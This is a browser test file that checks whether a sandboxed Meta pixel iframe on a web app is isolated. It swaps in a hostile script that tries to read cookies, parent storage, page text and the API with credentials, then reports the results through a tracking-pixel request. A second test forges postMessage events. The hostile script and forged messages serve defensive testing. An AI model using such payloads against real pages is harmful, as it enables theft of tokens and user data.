import { answer, call, expect, openCounted, test, visitorOf } from './with-conversions.ts';

/** Stands for a token that lies in the page's storage. */
const SECRET = 'a-token-of-somebody';

/**
 * A script that means harm, in the place of Meta's: it tries every way out of its frame, and tells how each ended
 * through the one request that its policy allows.
 */
const HOSTILE_SCRIPT = `
const own = (name) => Object.getOwnPropertyDescriptor(Document.prototype, name).get.call(document);
const another = () => {
  const frame = document.createElement('iframe');
  frame.src = '/home';
  document.body.append(frame);
  return frame.contentWindow.localStorage.length;
};
const call = async (path, init) => {
  const reply = await fetch(new URL(path, location.href), { credentials: 'include', ...init });
  return reply.status + (await reply.text());
};
const asked = (open) => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest();
  request.onload = () => resolve(request.responseText);
  request.onerror = () => reject(new Error('no answer'));
  request.open(...open);
  request.setRequestHeader('authorization', 'Bearer x');
  request.send();
});
const ways = {
  cookie: () => own('cookie'),
  'cookie of the page': () => parent.document.cookie,
  'storage of the page': () => parent.localStorage.getItem('secret'),
  'storage of a new frame': another,
  'a database': () => new Promise((resolve, reject) => {
    const open = indexedDB.open('any');
    open.onsuccess = () => resolve('open');
    open.onerror = () => reject(open.error);
  }),
  'text of the page': () => parent.document.body.innerText,
  'address of the page': () => parent.location.href,
  'another page of the window': () => { top.location.href = '/thank-you'; return 'left'; },
  'another window': () => { const opened = window.open('/home'); if (opened === null) throw new Error('none'); return opened.localStorage.length; },
  'the API': () => call('/api/health', {}),
  'the API as an admin': () => call('/api/clinics', { headers: { authorization: 'Bearer x' } }),
  'the API by XMLHttpRequest': () => asked(['GET', new URL('/api/health', location.href).href]),
  'another script of the page': () => import(new URL('/favicon.svg', location.href).href).then(() => 'ran'),
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = resolve;
    worker.onerror = reject;
  }),
};
const told = {};
for (const [name, way] of Object.entries(ways)) {
  try { told[name] = String(await way()); } catch { told[name] = 'refused'; }
}
new Image().src = 'https://www.facebook.com/tr/?' + new URLSearchParams(told);
`;

test('a script in the pixel frame reaches neither the page, its storage and cookies, nor the API (P-157)', async ({
  page,
  meta,
  measured,
}) => {
  await page.route('https://connect.facebook.net/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `(async () => {${HOSTILE_SCRIPT}})()` }),
  );
  await page.context().addCookies([{ name: 'secret', value: SECRET, url: measured.url }]);
  const answered: string[] = [];
  page.on('response', (reply) => {
    if (/\/api\/(health|clinics)$/.test(reply.url()) && reply.frame() !== page.mainFrame()) answered.push(reply.url());
  });
  await page.goto('/about');
  await page.evaluate((secret) => localStorage.setItem('secret', secret), SECRET);
  await answer(page, 'Accept');
  await expect.poll(() => meta.asked.filter((url) => url.includes('/tr/')).length, { timeout: 20_000 }).toBe(1);
  const [report = ''] = meta.asked.filter((url) => url.includes('/tr/'));
  const told = Object.fromEntries(new URL(report).searchParams);
  expect(Object.keys(told).length).toBeGreaterThan(12);
  expect(Object.entries(told).filter(([, end]) => end !== 'refused')).toEqual([]);
  expect(answered).toEqual([]);
  expect(report).not.toContain(SECRET);
  await expect(page).toHaveURL(/\/about$/);
});

test('the frame takes messages from its page alone, and the page takes none from another frame (P-157)', async ({
  page,
  meta,
}) => {
  await page.goto('/about');
  await answer(page, 'Accept');
  // The frame of the second page has its script before the other frame gets another one.
  const script = page.waitForResponse(
    (reply) => reply.url().startsWith('https://connect.facebook.net/') && page.url().endsWith('/contact'),
  );
  await openCounted(page, '/contact');
  await script;
  await expect.poll(() => visitorOf(page)).not.toBeNull();
  const forged = "['track', 'Purchase', {}, { eventID: 'forged' }]";
  await page.route('https://connect.facebook.net/**', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage(${forged}, '*');`,
    }),
  );
  const heard = await page.evaluate(async () => {
    localStorage.removeItem('pixel-visitor');
    const other = document.createElement('iframe');
    other.sandbox.add('allow-scripts');
    other.src = '/pixel.html';
    const loaded = new Promise((resolve) => addEventListener('message', ({ data }) => resolve(data)));
    other.addEventListener('load', () => other.contentWindow?.postMessage(['start', '1', 'fb.1.1.1'], '*'));
    document.body.append(other);
    return await loaded;
  });
  expect(heard).toBe('loaded');
  await call(page);
  await expect.poll(() => meta.told().map(({ event }) => event)).toContain('Contact');
  expect(meta.told().filter(({ event }) => event === 'Purchase')).toEqual([]);
  expect(await visitorOf(page)).toBeNull();
});
